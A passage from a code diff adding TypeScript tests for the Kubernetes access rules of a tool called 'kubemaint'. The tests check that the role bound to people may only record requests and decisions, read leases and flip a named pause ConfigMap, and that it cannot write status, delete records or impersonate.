+        resource: 'configmaps',
+        name,
+        namespace: NS,
+        user,
+        object: { metadata: { name, namespace: NS }, data: { paused: 'true' } },
+      });
+    for (const user of [{ username: SERVE }, LAMBDA]) {
+      assert.deepEqual(write(user, 'CREATE', 'kubemaint-pause'), []);
+      assert.deepEqual(write(user, 'UPDATE', 'kubemaint-pause'), []);
+      assert.match(
+        String(write(user, 'CREATE', 'kubemaint-config')),
+        /may write only the kubemaint-pause ConfigMap, not kubemaint-config/,
+      );
+    }
+    assert.equal(write({ username: 'alice' }, 'CREATE', 'anything'), 'skipped');
+  });
+});
+
+describe('rbac-people.yaml: the role people are bound to', () => {
+  const role = find('ClusterRole', 'kubemaint:person') as Doc & { rules: Rule[] };
+
+  it('records requests and decisions, reads slots, flips the pause switch by name, and nothing else', () => {
+    assert.deepEqual(role.rules, [
+      {
+        apiGroups: [GROUP],
+        resources: [REQUESTS, DECISIONS],
+        verbs: ['create', 'get', 'list', 'watch'],
+      },
+      { apiGroups: ['coordination.k8s.io'], resources: ['leases'], verbs: ['get', 'list'] },
+      {
+        apiGroups: [''],
+        resources: ['configmaps'],
+        resourceNames: ['kubemaint-pause'],
+        verbs: ['get', 'update'],
+      },
+    ]);
+  });
+  it("never lets a person write a request's status, change or delete a record, or impersonate", () => {
+    const granted = role.rules.flatMap((r) => r.resources.map((res) => [res, r.verbs] as const));
+    assert.ok(!granted.some(([res]) => res.includes('/')), 'no subresources (no status writes)');
+    for (const [res, verbs] of granted) {
+      for (const verb of ['update', 'patch', 'delete', 'deletecollection', 'impersonate', '*']) {
+        if (res === 'configmaps' && verb === 'update') continue;
+        assert.ok(!verbs.includes(verb), `${res}: ${verb}`);
+      }
+    }
+  });
+  it('is bound by the operator, not here', () => {
+    assert.ok(
+      !all.some(
+        ({ doc }) =>
+          doc.kind.endsWith('Binding') && (doc as Binding).roleRef?.name === 'kubemaint:person',
+      ),
     );
   });
 });
